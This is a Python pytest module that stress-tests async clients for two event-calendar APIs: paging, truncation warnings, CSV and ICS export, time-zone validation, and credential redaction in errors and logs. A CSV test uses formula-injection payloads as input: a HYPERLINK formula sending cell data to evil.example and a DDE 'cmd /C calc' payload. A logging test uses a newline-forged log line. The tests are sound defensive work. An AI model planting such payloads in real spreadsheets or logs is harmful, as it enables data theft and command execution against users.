"""The fourth hostile round: listings, exports and writes against shapes the providers'
descriptions allow and our fakes never send, each finding reproduced first."""

from __future__ import annotations

import asyncio
import datetime as dt
import logging
import re
import traceback
import zoneinfo
from typing import Any
from urllib.parse import quote

import aiohttp
import icalendar
import msgspec
import pytest
from yarl import URL

import common
from common._cli._output import _csv_row
from common._types import zone_or_none
from intervals_async import IntervalsClient
from ridewithgps_async import RideWithGPSClient

from ..intervals.test_paging_guard import event as _intervals_event
from .conftest import Action, RawServer, Seen, respond

pytestmark = pytest.mark.anyio

UTC = dt.timezone.utc


def _rwgps(raw: RawServer) -> RideWithGPSClient:
    return RideWithGPSClient(api_key="k", auth_token="t", base_url=raw.url, max_retries=0)


def _listing(events: list[dict[str, Any]], **pagination: Any) -> dict[str, Any]:
    meta = {"record_count": len(events), "page_count": 1, "page_size": 20, **pagination}
    return {"events": events, "meta": {"pagination": meta}}


# -- listings ----------------------------------------------------------------------------


async def test_rwgps_updated_since_reads_the_whole_last_page(raw: RawServer) -> None:
    # The description promises no order: a newer event after an older one on the same
    # page was dropped (the page was cut at the first older event).
    now = dt.datetime(2026, 5, 2, 12, tzinfo=UTC)
    stamps = [now, now - dt.timedelta(days=5), now - dt.timedelta(hours=1)]
    events = [
        {"id": i + 1, "name": f"E{i + 1}", "updated_at": t.isoformat()}
        for i, t in enumerate(stamps)
    ]
    raw.answer(respond(200, _listing(events, page_count=3)))
    async with _rwgps(raw) as client:
        since = now - dt.timedelta(days=1)
        found = [e.id async for e in client.iter_events(updated_since=since)]
    assert found == [1, 3]
    assert len(raw.requests) == 1  # an older event on the page: no next page


@pytest.mark.parametrize("second", [[], None], ids=["empty page 2", "page_count lies"])
async def test_rwgps_listing_short_of_its_record_count_warns(
    raw: RawServer, second: list[dict[str, Any]] | None
) -> None:
    first = [{"id": i, "name": f"E{i}"} for i in range(1, 21)]
    if second is None:  # one page said, 60 records named
        raw.answer(respond(200, _listing(first, record_count=60, page_count=1)))
    else:
        raw.answer(
            respond(200, _listing(first, record_count=60, page_count=3)),
            respond(200, _listing(second, record_count=60, page_count=3)),
        )
    async with _rwgps(raw) as client:
        with pytest.warns(common.TruncationWarning, match="20 of the 60 events"):
            found = [e.id async for e in client.iter_events()]
    assert len(found) == 20


async def test_intervals_cursor_server_ignoring_the_dates_yields_only_the_window(
    raw: RawServer,
) -> None:
    # The cursor path took every event the server sent; the windows' path warned about
    # a server ignoring the dates. Both now keep to the dates asked for, and say so.
    days = ["2026-04-30", "2026-05-01", "2026-05-02", "2026-05-04"]
    events = [_intervals_event(i, day) for i, day in enumerate(days)]

    async def pages(writer: asyncio.StreamWriter, seen: Seen) -> bool:
        after = re.search(r"[?&]after=([^&]+)", seen.target)
        chunk = events[:2] if after is None else events[2:]
        return await respond(200, {"data": chunk, "hasMore": after is None})(writer, seen)

    raw.answer(pages)
    async with IntervalsClient(api_key="k", base_url=raw.url, max_retries=0) as client:
        with pytest.warns(common.TruncationWarning, match="dated outside") as record:
            found = [
                e.date
                async for e in client.iter_events(
                    date_from=dt.date(2026, 5, 1), date_to=dt.date(2026, 5, 3)
                )
            ]
    assert found == [dt.date(2026, 5, 1), dt.date(2026, 5, 2)]
    assert len(record) == 2  # one per page that held such events


async def test_intervals_truncation_warning_counts_what_came(raw: RawServer) -> None:
    data = [_intervals_event(i, "2026-05-01") for i in range(50)]
    raw.answer(respond(200, {"data": data, "hasMore": True}))
    async with IntervalsClient(api_key="k", base_url=raw.url, max_retries=0) as client:
        with pytest.warns(common.TruncationWarning, match="returned 50 items and says"):
            page = await client.list_events()
    assert len(page) == 50


# -- exports -----------------------------------------------------------------------------


def _event(**fields: Any) -> common.Event:
    fields.setdefault("provider", "intervals")
    fields.setdefault("id", "ev1")
    fields.setdefault("name", "Canal 10K")
    fields.setdefault("start_date", dt.date(2026, 6, 1))
    return common.Event(**fields)


def _record(event: common.Event) -> dict[str, Any]:
    from common._cli._output import Outcome

    return Outcome(event, details=True).record()


def test_csv_cells_never_start_a_formula_and_distances_are_exact() -> None:
    event = _event(
        name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        description="+1+cmd|' /C calc'!A0",
        location=common.Location(name="@SUM(1+1)", lat=-33.5, lng=-6.25),
        distances_m=(1609344.0, 160934.4, 42194.988),
    )
    row = _csv_row(_record(event))
    assert row["name"].startswith("'=HYPERLINK")
    assert row["description"].startswith("'+1+cmd")
    assert row["location"] == "'@SUM(1+1), -33.5, -6.25"
    assert row["distances_m"] == "1609344.0 160934.4 42194.988"
    assert _csv_row(_record(_event(name="-5")))["name"] == "-5"  # a number stays a number


def _vevents(text: str) -> list[Any]:
    return list(icalendar.Calendar.from_ical(text).walk("VEVENT"))


def test_ics_text_holds_no_control_characters() -> None:
    bad = "Run\x00 \x01club\x1b\x7f"
    text = common.to_ics([_event(name=bad, description=bad, id="ev\x0b1")], name="Cal\x0c")
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", text)
    assert str(_vevents(text)[0]["SUMMARY"]) == "Run club"


def test_ics_timed_events_end_on_the_next_day_or_at_their_end_date() -> None:
    night = _event(
        id="night", start_time=dt.time(22), end_time=dt.time(2), timezone="Europe/Dublin"
    )
    tour = _event(
        id="tour",
        start_time=dt.time(8),
        end_date=dt.date(2026, 6, 20),
        timezone="Europe/Dublin",
    )
    dublin = zoneinfo.ZoneInfo("Europe/Dublin")
    ends = {
        str(v["UID"]).split("@")[0]: v["DTEND"].dt for v in _vevents(common.to_ics([night, tour]))
    }
    assert ends == {
        "intervals-night": dt.datetime(2026, 6, 2, 2, tzinfo=dublin),
        "intervals-tour": dt.datetime(2026, 6, 21, 0, tzinfo=dublin),
    }


@pytest.mark.parametrize(
    "other",
    [
        _event(id="p", start_date=dt.date(2026, 1, 1), end_date=dt.date(2099, 12, 31)),
        _event(
            id="o", start_date=dt.date(1994, 6, 5), start_time=dt.time(9), timezone="Europe/Dublin"
        ),
    ],
    ids=["an all-day event to 2099", "a timed event of 1994"],
)
def test_ics_time_zone_rules_cover_this_season_whatever_the_other_events(
    other: common.Event,
) -> None:
    timed = _event(id="t", start_time=dt.time(10), timezone="Europe/Dublin")
    calendar = icalendar.Calendar.from_ical(common.to_ics([timed, other]))
    (zone,) = calendar.walk("VTIMEZONE")
    # icalendar writes the window its rules hold for (the observances repeat by RRULE)
    first, last = map(int, re.findall(r"(\d{4})-01-01", str(zone.get("COMMENT"))))
    assert first <= 2026 < last


# -- zones and writes --------------------------------------------------------------------


@pytest.mark.parametrize(
    "name", ["localtime", "posixrules", "Factory", "posix/Europe/Paris", "right/UTC"]
)
def test_names_of_no_zone_are_no_zone(name: str) -> None:
    # They open on this machine's tz database but name its own zone or no IANA one: the
    # same document gave another instant on another machine.
    assert zone_or_none(name) is None
    with pytest.raises(common.InvalidRequestError) as caught:
        common.provider.check_timezone("time_zone", name)
    assert caught.value.field == "time_zone"


@pytest.mark.parametrize(
    "url", ["http://exämple.com/ü", "http://x/%zz", 'http://x/<>"{}|^`', "http://x/\x7f"]
)
async def test_an_url_that_is_no_uri_is_refused_before_sending(raw: RawServer, url: str) -> None:
    async with IntervalsClient(api_key="k", base_url=raw.url) as client:
        with pytest.raises(common.InvalidRequestError) as caught:
            await client.create_event(
                name="x", slug="x", date="2026-01-01", type="race", website_url=url
            )
    assert caught.value.field == "website_url"
    assert raw.requests == []


@pytest.mark.parametrize(
    ("fields", "field"),
    [
        ({"retry_if_maybe_sent": "false"}, "retry_if_maybe_sent"),
        ({"retry_if_maybe_sent": 0}, "retry_if_maybe_sent"),
        ({"notes": "caf\udce9"}, "notes"),
    ],
)
async def test_a_registration_flag_is_a_bool_and_text_is_unicode(
    raw: RawServer, fields: dict[str, Any], field: str
) -> None:
    # "false" as a string meant "retry": a write the caller opted out of retrying was
    # sent three times against a server that does not de-duplicate.
    async with IntervalsClient(api_key="k", base_url=raw.url) as client:
        with pytest.raises(common.InvalidRequestError) as caught:
            await client.register_participant(
                event_run_id="r1", name="A B", email="a@b.co", registration_type="free", **fields
            )
    assert caught.value.field == field
    assert raw.requests == []


_ = Action  # (the conftest's action type, for servers written in this module)


def test_intervals_times_a_person_writes_are_read() -> None:
    # "9:00" and an end at "24:00" made a timed event all-day (start None), silently.
    from intervals_async import Event
    from intervals_async._source import to_common_event

    raw = _intervals_event(1, "2026-06-01") | {"startTime": "9:00", "endTime": "24:00"}
    event = to_common_event(intervals_event_model(raw), timezone="Europe/Dublin")
    assert (event.start_time, event.end_date, event.end_time) == (
        dt.time(9),
        dt.date(2026, 6, 2),
        dt.time(0),
    )
    assert isinstance(event.raw, Event)


def intervals_event_model(data: dict[str, Any]) -> Any:
    from intervals_async import Event
    from intervals_async._models import DECODER

    return DECODER.decode(msgspec.json.encode(data), Event)


# -- the audits of both providers' references ------------------------------------------


async def test_a_series_filter_the_server_may_ignore_is_said_and_kept_to(raw: RawServer) -> None:
    # The current reference lists no seriesId filter: a server ignoring it sent every
    # series' events, and nothing told the caller.
    data = [
        _intervals_event(1, "2026-05-01") | {"seriesId": "s1"},
        _intervals_event(2, "2026-05-01") | {"seriesId": "s2"},
        _intervals_event(3, "2026-05-01"),
    ]

    async def pages(writer: asyncio.StreamWriter, seen: Seen) -> bool:
        after = re.search(r"[?&]after=([^&]+)", seen.target)
        page = data if after is None else [_intervals_event(4, "2026-05-02")]
        return await respond(200, {"data": page, "hasMore": after is None})(writer, seen)

    raw.answer(pages)
    async with IntervalsClient(api_key="k", base_url=raw.url, max_retries=0) as client:
        with pytest.warns(common.TruncationWarning) as one:  # (and: hasMore, more to come)
            listed = await client.list_events(series_id="s1")
        with pytest.warns(common.TruncationWarning, match="may be of another one") as every_one:
            every = [e.id async for e in client.iter_events(series_id="s1")]
    assert [e.id for e in listed] == ["ev00001", "ev00003"]
    assert any("of another series were left out" in str(w.message) for w in one)
    assert every == ["ev00001", "ev00003", "ev00004"]
    assert len(every_one) == 1  # once per listing, not once per page
    # each at the caller's line, not at a layer of the library's own
    assert {w.filename for w in [*one, *every_one]} == {__file__}


async def test_a_credential_echoed_into_a_body_that_fails_to_decode_is_redacted(
    raw: RawServer,
) -> None:
    token = "rwgps-oauth-A1b2C3d4E5f6G7h8I9j0A1b2C3d4E5f6G7h8I9j0A1b2C3d4E5f6G7h8"  # cut at 40
    raw.answer(respond(200, {"event": {"id": 1, "name": "x", "start_date": token}}))
    async with RideWithGPSClient(api_key="key-1234abcd", auth_token=token, base_url=raw.url) as rw:
        with pytest.raises(common.DecodeError) as caught:
            await rw.get_event(1)
    assert token[:12] not in str(caught.value) and token[:12] not in repr(caught.value)
    assert "$.event.start_date" in str(caught.value)
    printed = "".join(traceback.format_exception(caught.value))  # the chain too
    assert token[:12] not in printed


def test_a_request_s_repr_hides_its_credentials() -> None:
    request = common.provider.Request(
        "GET", URL("https://x.example/y"), {"Authorization": "Bearer SEKRET123", "Accept": "a"}
    )
    assert "SEKRET123" not in repr(request)
    assert "'Accept': 'a'" in repr(request)


async def test_a_credential_in_a_path_and_server_text_with_line_breaks_are_logged_safely(
    raw: RawServer, caplog: pytest.LogCaptureFixture
) -> None:
    # The key escaped in a path was not recognised; the retry line was never redacted;
    # a server's message with a line break forged a log line of its own.
    key = "Zk+9/Qa7Lm2x=="
    forged = "oops\n2026-12-03 10:00:00,000 common._transport DEBUG GET /organization -> 200"
    raw.answer(respond(503, {}), respond(400, {"error": {"code": "BAD", "message": forged}}))
    caplog.set_level(logging.DEBUG)
    async with IntervalsClient(api_key=key, base_url=raw.url, max_retries=1) as client:
        with pytest.raises(common.BadRequestError):
            await client.get_event(key)
    lines = [r.getMessage() for r in caplog.records]
    assert lines and not any(key in line or quote(key, safe="") in line for line in lines)
    assert any(line.startswith("retrying GET /events/<redacted>") for line in lines)
    assert not any("\n" in line for line in lines)


def test_trace_configs_with_a_session_of_your_own_are_refused() -> None:
    # They were dropped without a word (only a session the client creates takes them).
    async def build() -> None:
        async with aiohttp.ClientSession() as session:
            IntervalsClient(api_key="k", session=session, trace_configs=[aiohttp.TraceConfig()])

    with pytest.raises(common.InvalidRequestError) as caught:
        asyncio.run(build())
    assert caught.value.field == "trace_configs"


async def test_a_rwgps_route_needs_no_id(raw: RawServer) -> None:
    # The description's RouteSummary requires no key (as its Photo and organizer items).
    event = {"id": 7, "name": "E7", "routes": [{"url": "https://ridewithgps.com/routes/1"}]}
    raw.answer(respond(200, {"event": event}))
    async with _rwgps(raw) as client:
        got = await client.get_event(7)
    assert got.routes[0].id is None


async def test_every_intervals_listing_takes_the_documented_cursors(raw: RawServer) -> None:
    # "All list endpoints use cursors ... after (next page) or before (previous page)":
    # only list_events took them, so a registration list past its first page (a limit
    # given) could not be reached.
    registration = {
        "_id": "reg00004",
        "eventId": "ev1",
        "eventRunId": "run1",
        "email": "r4@example.com",
        "registrationType": "free",
        "registrationStatus": "confirmed",
    }
    empty = respond(200, {"data": [], "hasMore": False})
    # backwards with more to come: one page, and never `after` with `before`
    raw.answer(respond(200, {"data": [registration], "hasMore": True}), empty)
    async with IntervalsClient(api_key="k", base_url=raw.url, max_retries=0) as client:
        with pytest.warns(common.TruncationWarning):  # more to come, not followed
            await client.list_registrations("ev1", before="reg5")
        await client.list_registrations("ev1", after="reg5")
        await client.list_recurrences(before="rec9", limit=10)
        await client.list_groups(before="g3")
        await client.list_group_events("dawn", after="ev2", limit=5)
        with pytest.raises(common.InvalidRequestError):
            await client.list_groups(after="a", before="b")
    targets = [seen.target for seen in raw.requests]
    assert len(targets) == 5
    assert re.search(r"/registration\?.*before=reg5", targets[0]) and "after" not in targets[0]
    assert re.search(r"/registration\?.*after=reg5", targets[1])
    assert re.search(r"/recurrences\?.*before=rec9", targets[2])
    assert re.search(r"/groups\?.*before=g3", targets[3])
    assert re.search(r"/groups/dawn/events\?.*after=ev2", targets[4])
